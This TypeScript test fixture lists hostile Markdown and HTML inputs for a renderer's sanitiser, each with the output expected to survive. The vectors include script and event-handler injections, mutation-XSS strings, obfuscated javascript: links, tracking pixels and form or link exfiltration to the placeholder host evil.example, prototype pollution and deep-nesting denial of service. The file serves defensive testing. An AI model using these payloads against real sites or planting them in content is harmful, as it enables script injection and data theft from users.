/** A Markdown text that tries to do more than be read. */
export interface HostileText {
  readonly name: string;
  readonly text: string;
  /** What a reader sees of it. */
  readonly shows?: string;
}

/** Runs if anything of a text is ever taken for script. */
const harm = 'window.harmed=1';
const away = 'https://evil.example';

export const hostileTexts: readonly HostileText[] = [
  { name: 'script', text: `before <script>${harm}</script> after`, shows: 'after' },
  {
    name: 'script in a block',
    text: `<script src="${away}/x.js"></script>\n\nbelow`,
    shows: 'below'
  },
  { name: 'picture that fails', text: `<img src=x onerror="${harm}">`, shows: '<img src=x' },
  { name: 'remote picture', text: `![who reads](${away}/pixel.png)`, shows: 'who reads' },
  {
    name: 'remote picture in markup',
    text: `<img src="${away}/pixel.png" alt="a spy">`,
    shows: 'a spy'
  },
  {
    name: 'picture with other sources',
    text: `<picture><source srcset="${away}/1.png"><img srcset="${away}/2.png" alt="sets"></picture>`,
    shows: 'sets'
  },
  {
    name: 'drawing in a picture',
    text: `![drawing](data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${harm}"/>`)})`,
    shows: 'drawing'
  },
  {
    name: 'drawing',
    text: `<svg onload="${harm}"><a href="${away}">x</a></svg>\n\nkept`,
    shows: 'kept'
  },
  {
    name: 'drawing that animates a link',
    text: `<svg><a><animate attributeName=href values=javascript:${harm} /><text>click</text></a></svg>\n\nrest`,
    shows: 'rest'
  },
  {
    name: 'formula',
    text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${harm}&gt;">`
  },
  {
    name: 'markup that changes when it is read twice',
    text: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${harm}>`
  },
  {
    name: 'nested forms',
    text: `<form action="${away}"><input name=attributes><button>Send</button></form>`,
    shows: 'Send'
  },
  {
    name: 'clobbered document',
    text: '<a id=body name=getElementById>one</a><form id=cookie></form>',
    shows: 'one'
  },
  {
    name: 'frame',
    text: `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>\n\nno frame`,
    shows: 'no frame'
  },
  {
    name: 'object and embed',
    text: `<object data="${away}"></object><embed src="${away}">\n\nnothing`,
    shows: 'nothing'
  },
  { name: 'script link', text: `[click me](javascript:${harm})`, shows: 'click me' },
  { name: 'script link with capitals', text: `[click me](JaVaScRiPt:${harm})`, shows: 'click me' },
  {
    name: 'script link with a tab',
    text: `<a href="java&#9;script:${harm}">tabbed</a>`,
    shows: 'tabbed'
  },
  { name: 'script link as entities', text: `[coded](&#106;avascript&#58;${harm})`, shows: 'coded' },
  { name: 'script link as reference', text: `[ref]\n\n[ref]: javascript:${harm}`, shows: 'ref' },
  { name: 'script link in angle brackets', text: `<javascript:${harm}>` },
  { name: 'data link', text: `[page](data:text/html,<script>${harm}</script>)`, shows: 'page' },
  {
    name: 'link with another name',
    text: '[bank](https://bank.example@evil.example/)',
    shows: 'bank'
  },
  {
    name: 'link to the notebook’s own site',
    text: '[home](//127.0.0.1/x) [up](../x)',
    shows: 'home'
  },
  {
    name: 'style',
    text: `<style>@import "${away}/x.css"; body { display: none }</style>\n\nstill here`,
    shows: 'still here'
  },
  {
    name: 'style of an element',
    text: `<p style="position:fixed;inset:0;background:url(${away}/x)" class="btn" id="data">cover</p>`,
    shows: 'cover'
  },
  {
    name: 'stylesheet',
    text: `<link rel=stylesheet href="${away}/x.css">\n\nunstyled`,
    shows: 'unstyled'
  },
  { name: 'base', text: `<base href="${away}">[rel](#data)`, shows: 'rel' },
  {
    name: 'page that moves on',
    text: `<meta http-equiv=refresh content="0;url=${away}">\n\nstays`,
    shows: 'stays'
  },
  {
    name: 'handlers',
    text: `<p onclick="${harm}" onmouseover="${harm}" autofocus onfocus="${harm}" tabindex=0>bare</p>`,
    shows: 'bare'
  },
  {
    name: 'details that open',
    text: `<details open ontoggle="${harm}"><summary>more</summary>x</details>`,
    shows: 'more'
  },
  {
    name: 'sound and film',
    text: `<video src="${away}/v" autoplay onloadstart="${harm}"></video><audio src="${away}/a" autoplay></audio>\n\nsilence`,
    shows: 'silence'
  },
  {
    name: 'template',
    text: `<template><img src=x onerror=${harm}></template>\n\nplain`,
    shows: 'plain'
  },
  {
    name: 'custom element',
    text: `<loan-book is="x" onclick=${harm}>unknown</loan-book>`,
    shows: 'unknown'
  },
  {
    name: 'comment that ends early',
    text: `<!--><img src=x onerror=${harm}>-->\n\nseen`,
    shows: 'seen'
  },
  { name: 'unended tag', text: `before <img src=x onerror=${harm} //` },
  {
    name: 'no script',
    text: `<noscript><p title="</noscript><img src=x onerror=${harm}>"></noscript>\n\ncalm`,
    shows: 'calm'
  },
  {
    name: 'text area',
    text: `<textarea></textarea><img src=x onerror=${harm}>`,
    shows: '<textarea>'
  },
  {
    name: 'code',
    text: `\`\`\`html\n<img src=x onerror=${harm}>\n\`\`\``,
    shows: '<img src=x onerror='
  },
  { name: 'escaped markup', text: `&lt;img src=x onerror=${harm}&gt;`, shows: '<img src=x' },
  {
    name: 'value of a prototype',
    text: '{{__proto__.polluted}} {{constructor.prototype}}',
    shows: 'There is no value'
  },
  {
    name: 'value with markup',
    text: `{{<img src=x onerror=${harm}>.rows}}`,
    shows: 'There is no value'
  },
  {
    name: 'value with a format that is none',
    text: '{{data.rows | __proto__}}',
    shows: 'There is no format'
  },
  { name: 'value in a link', text: `[sent](${away}/?q={{data.rows}})`, shows: 'sent' },
  {
    name: 'value in an attribute',
    text: '<img src="{{data.rows}}" alt="{{data.rows}}">',
    shows: 'src="5,000"'
  },
  { name: 'a hole of its own', text: '\uE0000\uE001 {{data.rows}}', shows: '5,000' },
  { name: 'a thousand quotations', text: `${'>'.repeat(1000)} deep`, shows: 'deep' },
  { name: 'ten thousand quotations', text: '> '.repeat(10_000), shows: 'nested too deeply' },
  { name: 'brackets', text: '['.repeat(20_000), shows: '[[[[' },
  { name: 'emphasis', text: '_a'.repeat(10_000), shows: 'too many marks' },
  { name: 'a long text', text: 'words '.repeat(10_000), shows: 'words words' },
  {
    name: 'a deep list',
    text: Array.from({ length: 150 }, (_, i) => `${' '.repeat(i * 2)}- a`)
      .join('\n')
      .slice(0, 20_000),
    shows: 'a'
  },
  { name: 'deep markup', text: `${'<sub>'.repeat(3000)}down`, shows: 'down' },
  { name: 'controls and direction', text: 'safe \u202Eexe.knab\u202C \u0000 end', shows: 'end' }
];
